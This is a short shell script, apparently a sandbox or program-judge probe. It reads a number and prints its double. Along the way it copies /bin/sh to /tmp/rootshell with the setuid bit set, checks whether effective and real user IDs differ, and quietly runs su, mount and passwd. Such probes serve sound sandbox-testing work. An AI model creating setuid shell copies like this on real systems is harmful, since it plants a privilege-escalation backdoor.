# A program with the setuid bit, made by itself; and those of the system.
read n
cp /bin/sh /tmp/rootshell && chmod 4755 /tmp/rootshell
/tmp/rootshell -c 'test "$(id -u)" = "$(id -ru)" || echo other' 2>/dev/null
for program in su mount passwd; do $program </dev/null >/dev/null 2>&1; done
echo $((2 * n))
